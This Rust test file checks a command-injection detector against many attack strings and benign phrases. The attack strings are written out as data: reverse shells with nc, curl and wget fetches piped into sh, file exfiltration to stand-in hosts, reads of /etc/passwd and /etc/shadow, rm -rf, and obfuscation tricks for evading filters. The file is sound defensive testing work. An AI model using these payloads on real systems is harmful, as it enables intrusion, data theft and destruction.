use super::*;

fn signature_of(value: &str) -> Option<&'static str> {
    detect(value.as_bytes(), Bytes::of(value.as_bytes()), FieldKind::Value, false)
        .first()
        .map(|it| it.signature)
}

#[test]
fn finds_a_command_after_a_separator() {
    for attack in [
        ";id",
        "|id",
        "1;ls",
        "x;ls -la",
        "127.0.0.1; cat /etc/passwd",
        "a && whoami",
        "1 || ping -c 10 127.0.0.1",
        "& dir c:\\",
        "| dir",
        "127.0.0.1&;uname -a",
        "a;sleep 10",
        "'; sleep 5; '",
        "\" | id | \"",
        "a);id",
        "a)|id;",
        "x\nid",
        "x\n/usr/bin/id",
        "file.txt;wget http://192.0.2.1/x.sh",
        "; nslookup a.b.example",
        "| net user",
        "& ipconfig /all &",
        "|getent hosts x.example",
        "| set /a 12*34",
        "a;echo $((1+2))",
        "; ( sleep 5 )",
        "a | type c:\\boot.ini",
        "8.8.8.8 & ping -n 9 127.0.0.1",
        "1|ps -ef",
        "name;curl -d @/etc/hosts http://192.0.2.2",
        "|| ls ||",
        "; env",
        "x; nc -e /bin/sh 192.0.2.9 4444",
        "|cmd /c dir",
        "& net localgroup administrators",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn finds_substitutions() {
    for attack in [
        "$(id)",
        "`id`",
        "x$(sleep 5)y",
        "`ping 192.0.2.5`",
        "$(cat /etc/hosts)",
        "<(cat /x)",
        "\"$(whoami)\"",
        "`uname`",
        "a`sleep 3`",
        "$(cmd)",
        "$(nslookup x.example)",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn words_tags_and_symbols_excuse_no_substitution() {
    for command in
        ["$(curl http://evil.example/x|sh)", "$(cat /etc/passwd)", "$(ls -la)", "`cat /etc/passwd`"]
    {
        for prose in ["the cat sat on the mat and ", "the cat sat on the mat and the dog lay under it "] {
            for attack in [format!("{prose}{command}"), format!("{command} {prose}")] {
                assert!(signature_of(&attack).is_some(), "{attack}");
            }
        }
    }
    for padding in ["<br>", "😀 ", "→ "] {
        let attack = padding.repeat(5) + "$(id)";
        assert!(signature_of(&attack).is_some(), "{attack}");
    }
    for benign in [
        "the new bike on our list costs $(about 5) or less",
        "you can see all of the files with `ls` in your folder",
        "you can see all of the files with `ls -la` in your folder",
        "the size of the new folder is $(size) and the time of it is $(time)",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn finds_disguised_commands() {
    for attack in [
        "c''at /etc/passwd",
        "; c\\at /x/y",
        ";w'h'o'am'i",
        ";who$@ami",
        "{cat,/etc/passwd}",
        ";cat${IFS}/x",
        "&& wh^oami",
        "cat$IFS$9/etc/hosts",
        "/???/??t /x",
        "/b?n/c?t x",
        "; /usr/b*/wh*mi",
        "; head /e't'c/ho's'ts",
        "|b\"a\"sh",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn finds_commands_built_from_variables() {
    for attack in ["a=cat;$a /x", "x=who&&y=ami;$x$y", "cat ${HOME:0:1}etc${HOME:0:1}hosts", "wh``oami; id"] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
    assert_eq!(signature_of("a=1; b=$a"), None);
}

#[test]
fn finds_pipes_into_a_shell() {
    for attack in ["curl http://192.0.2.1/a | sh", "echo aWQ= | base64 -d | bash", "x|python -c 'import os'"]
    {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn requires_distinctive_arguments_of_a_bare_command_line() {
    for attack in [
        "cat /var/www/x",
        "/usr/bin/id",
        "/bin/ps -ef",
        "ping.exe -n 7 192.0.2.5",
        "wget http://192.0.2.1/x",
        "bash -c 'id'",
        "net user admin",
        "cmd.exe /c dir",
        "nc -lvp 4444",
        "curl http://192.0.2.1/a",
        "sleep 10",
        "id|",
        "../../../bin/id|",
        "net user x y /add",
        "certutil -urlcache -f http://192.0.2.1/a a",
        "dir C:\\",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
    for benign in [
        "cat food",
        "find my order",
        "ping me",
        "type a",
        "curl and gradient",
        "bash is my favourite!",
        "sort by price",
        "sleep well",
        "echo park",
        "host a party",
        "more info",
        "sleep 8 hours",
        "make -j 4 was slow",
        "host a.example for me",
        "wget is nice",
        "./bin/console cache:clear",
        "net income user",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

/// Texts with words and punctuation of the shell that run nothing.
#[test]
fn passes_benign_texts() {
    for benign in [
        "run `ls` in the folder; then cat the file",
        "The build failed; more tests are needed; who can help?",
        "Tom & Jerry; cat and mouse",
        "rock | sort of jazz | time",
        "a | b",
        "name|id|date",
        "id|name",
        "title;date;id",
        "R&D & more",
        "Missing `id`",
        "Field `type` must be set",
        "find & replace",
        "Touch & go; head & shoulders",
        "Kill Bill | Less Than Zero",
        "Home | Who we are | Help",
        "{\"a\": \"b\"} | jq .",
        "my last name is head; his is more",
        "https://example.com/?a=1&id=1&sort=price&date=2026-01-01",
        "x=1&id=1",
        "Use the `date` field, or `id`, whichever comes first",
        "$('#id').hide(); $(document).ready(init);",
        "all: $(CC) -o main; $(OBJS)",
        "for (i = 0; i < n; i++) { find(i); }",
        ".head{margin:0;top:0;left:0}",
        "top: 0; left: 0; more: 1",
        "var w=1;top=2;id=3;",
        "a&nbsp;cat&nbsp;sat",
        "AT&amp;id=5",
        "Caf\u{e9} &eacute;cat",
        "$100; $200",
        "price is $5 | was $10",
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101",
        "text/html; charset=utf-8",
        "en-US,en;q=0.5",
        "a=b; path=/; expires=x",
        "I said 'id' and \"ls\"",
        "who's there; what time is it",
        "SELECT name; find me a host",
        "O'Brien; head of sales",
        "Smith; John | Doe; Jane",
        "Dear all,\ntime to meet\nsort it out\nmore soon",
        "- cat\n- dog\n",
        "1 & 2\n3 & 4",
        "if (a && b || c) { return; }",
        "x => x | 0; y",
        "C:\\Users\\bob\\cat",
        "The command is 'sort'",
        "foo(bar); sort(baz)",
        "{a,b}",
        "/* c?t */",
        "https://example.com/b?n=c",
        "salt & pepper; w/ fries",
        "see http://a.example/?q=x;id=4",
        "Where: top; when: last; who: me",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn reports_the_command_with_its_separator() {
    let value = b"127.0.0.1; cat /etc/passwd";
    let matched = &detect(value, Bytes::of(value), FieldKind::Value, false)[0];
    assert_eq!(&value[matched.span.clone()], b"; cat /etc/passwd");
}

#[test]
fn finds_commands_run_by_other_programs() {
    for attack in [
        "time ifconfig",
        "NOHUP whoami",
        "ti''me curl evil.example",
        "; . rm -rf /tmp/x",
        ";$a cat $b x.txt",
        "env --version",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn finds_here_strings() {
    for attack in ["`cat<<<whoami`", ";irb<<<7+3", "$0<<<whoami x", ">(tee notes)"] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn finds_commands_before_a_comment() {
    for attack in ["\";rm x7 #", "a&del x7&rem", "\nuname >x7", "'|uname >x7 #"] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
    assert_eq!(signature_of("my dog; cat is #1"), None);
    for attack in [";id 2>&1", "|whoami 2>&1 &", "x;ls -la 2>&1"] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn finds_chains_of_commands() {
    assert_eq!(signature_of("cd /;cd srv;fold notes"), Some("rce-command-chain"));
    assert_eq!(signature_of("wash; cut; sort; find the lid"), None);
    assert_eq!(signature_of("text/html,application/xml;q=0.9,*/*;q=0.8"), None);
}

#[test]
fn finds_strong_commands_inside_prose() {
    let cover = "we all thought that the soup was rather good this time";
    for attack in
        ["; cat /etc/shadow", "| curl http://evil.example/x", "&& wget https://evil.example/x -O /tmp/x"]
    {
        assert!(
            signature_of(&format!("{cover} {attack} {cover}")).is_some()
                || signature_of(&format!("{cover} {attack}")).is_some(),
            "{attack}"
        );
    }
    assert_eq!(signature_of(&format!("{cover}; cut it / paste it, and {cover}")), None);
}

#[test]
fn finds_commands_in_what_looks_like_a_comment() {
    let commands = [
        "$(curl http://a.example/x|sh)",
        "`cat /etc/passwd`",
        "$(cat /etc/passwd)",
        "$(id)",
        ";cat /etc/passwd;",
        "& type c:\\boot.ini",
    ];
    for command in commands {
        for before in ["a # ", "photo #1 ", "x\n# ", "it's # ", "a ; # # ", "\"a # "] {
            let attack = format!("{before}{command}");
            assert!(signature_of(&attack).is_some(), "{attack}");
        }
    }
    for benign in [
        "Room #12; cat food",
        "Issue #12; sleep 5 minutes",
        "Release notes\n# Heading; more below\n## Files & folders",
        "We are #1 | find us",
        "make all # then run; sort the list",
        "ticket # 7 (see date)",
        "$('#id').hide(); $( '#b' ).show()",
        "a { color: #fff; top: 0 } #id > p { left: 1 }",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn words_after_the_arguments_excuse_no_command() {
    let words = ["", " a b c d e f", " one two three four five six seven eight", " '' '' '' '' '' '' ''"];
    for command in [
        "; wget http://a.example/x",
        ";curl http://a.example/x -o /tmp/x",
        "&& rm -rf /",
        "| nc 192.0.2.4 99",
        "; php -r 'system(1);'",
        "; cat /etc/passwd",
        ";cat /etc/passwd /",
    ] {
        for after in words {
            for before in ["", "Please call me back as soon as you can today "] {
                let attack = format!("{before}{command}{after}");
                assert!(signature_of(&attack).is_some(), "{attack}");
            }
        }
    }
    for command in ["$(nslookup a.example)", "$(sleep 10)", "$(busybox nc 192.0.2.4 9)", "$(wget x)"] {
        for before in ["Please call me back as soon ", "Please call me back as soon as you can today "] {
            let attack = format!("{before}{command} please");
            assert!(signature_of(&attack).is_some(), "{attack}");
        }
    }
    for benign in [
        "Please call me back as soon as you can $(about five)",
        "Please call me back as soon as you can (see date)",
        "My price is $(more or less) what you said last week",
        "I waited for you; sleep 8 hours and call me back tomorrow",
        "We had no time; find the index.html and edit the title there please",
        "I heard; echo park is nice in the summer",
        "We lost money; net users grew by a third in May",
        "I fed the dog; cat and mouse were asleep on the sofa all day",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn padding_before_the_program_hides_no_command() {
    for unit in ["env ", "nice ", "exec ", "env -i ", "nice -n 5 ", "a=b ", "</dev/null ", ">x ", "$x "] {
        for count in [1, 9, 2_000] {
            let attack = format!(";{}cat /etc/passwd", unit.repeat(count));
            assert!(signature_of(&attack).is_some(), "{count} of {unit}");
        }
    }
    for count in [1, 20, 2_000] {
        let attack = format!("; id{}", "\0".repeat(count));
        assert!(signature_of(&attack).is_some(), "{count} zero bytes");
        let attack = format!("a=ca;b=t;{}$a$b /x", "x=1;".repeat(count));
        assert!(signature_of(&attack).is_some(), "{count} assignments");
    }
    for benign in ["my env is nice; exec board", "5 < 6 cats", "<b>cat</b> <i>find it</i>", "a=b; nice -n"] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn finds_cmdlets_of_powershell() {
    for attack in [";Get-Process", "Get-ChildItem C:\\x", "$(Get-Content C:\\x)"] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
    assert_eq!(signature_of("a get-together; get-well wishes"), None);
}

#[test]
fn passes_common_lists_and_pairs() {
    for benign in [
        "time flies; so do birds",
        "Tom & Jerry; the movie",
        "docker compose up",
        "kubectl get pods",
        "cut & paste / copy & paste",
        "name|id|date",
        "my-app --help",
        "lunch & more",
        "Meet at 5; bring a host",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn finds_command_lines_in_quotes_and_with_escaped_line_ends() {
    for attack in [
        "\\nid\\n",
        "\\n/bin/ls -al\\n",
        "'ls -l'",
        "ping 127.0.0.1;",
        ";ping `hostname`",
        ";id>/tmp/x",
        "1;id#",
        ";${PATH:5:1}s",
        "find / -name id_rsa",
        "del c:\\windows\\x",
        ";{ id; }",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
}

#[test]
fn passes_names_of_commands_alone_and_in_sentences() {
    for text in [
        "'a list'",
        "rm 5",
        "cd Rom",
        "echo;",
        "C:\\new\\test",
        "head;",
        "net users grew by a third in May",
        "\\new line\\n",
    ] {
        assert_eq!(signature_of(text), None, "{text}");
    }
}

#[test]
fn words_before_a_command_hide_none() {
    for runner in [
        "ionice -c 3",
        "taskset 1",
        "taskset ff",
        "chrt -o 0",
        "setpriv --reuid 0",
        "runuser -u a",
        "runuser -u a --",
        "prlimit",
        "choom -n 0",
        "setarch x86_64",
        "setarch sparc -R",
        "linux64",
        "fakeroot",
        "proxychains",
        "torsocks",
        "coproc",
        "coproc x {",
        "parallel -j 1",
        "ssh-agent",
        "unbuffer",
        "eatmydata",
        "command -p",
        "command --",
        "env -u x",
        "env -C /",
        "time -f x",
        "exec -a x",
        "gosu root",
        "timeout 9",
        "sudo -u root",
        "sudo -u ls",
    ] {
        for count in [1, 2, 8, 2_000] {
            let padding = format!("{runner} ").repeat(count);
            for attack in [format!(";{padding}cat /etc/passwd"), format!("$({padding}id)")] {
                assert!(signature_of(&attack).is_some(), "{count} of {runner}");
            }
            let is_bare = !matches!(runner, "parallel -j 1" | "coproc x {");
            let attack = format!("{padding}cat /etc/passwd");
            assert!(!is_bare || signature_of(&attack).is_some(), "{count} of {runner} alone");
        }
    }
    for benign in [
        "It takes time; time - more or less",
        "Use the command -p, or find another one; more below",
        "a parallel find; parallel -j is an option of it",
        "Set the timeout 9; sudo make me a sandwich",
        "my flock of sheep; flock to the head of the valley",
        "work until more help comes; until last week",
        "do - find me; else -- more",
        "Linux x86_64; rv:126.0",
        "nice 5 star hotel; nice -ish find",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}

#[test]
fn redirections_and_keywords_before_a_command_hide_none() {
    for attack in [
        ";<<<x cat /etc/passwd",
        ";>|x cat /etc/passwd",
        ";{fd}</dev/null cat /etc/passwd",
        ";cat >|x /etc/passwd",
        ";2>&1 cat /etc/passwd",
        ";<&0 cat /etc/passwd",
        ";f(){ cat /etc/passwd;};f",
        ";f ( ) { id; };f",
        ";f()( id );f",
        ";until cat /etc/passwd;do :;done",
        ";if a;then b;elif cat /etc/passwd;then :;fi",
        ";case a in a) cat /etc/passwd;;esac",
        ";case a in (a) id;;esac",
        ";case a in b) :;;a) cat /etc/passwd;;esac",
        "; ash -c id",
        "rbash -c id",
        ";fish -c id",
        "$(mksh -c id)",
    ] {
        assert!(signature_of(attack).is_some(), "{attack}");
    }
    for benign in [
        "<<<<<<< HEAD",
        "<<< find me",
        "<a>|<b>",
        "Oak trees | Ash",
        "chips | fish",
        "oak; ash and/or beech",
        "fish & chips; fish and more",
        "$(function(){ id; })",
        "function f(){ find(me); }",
        "render(){ date = new Date(); sort(a); }",
        "in this case a) find the head b) sort the tail",
        "in case a in b) more of it",
    ] {
        assert_eq!(signature_of(benign), None, "{benign}");
    }
}
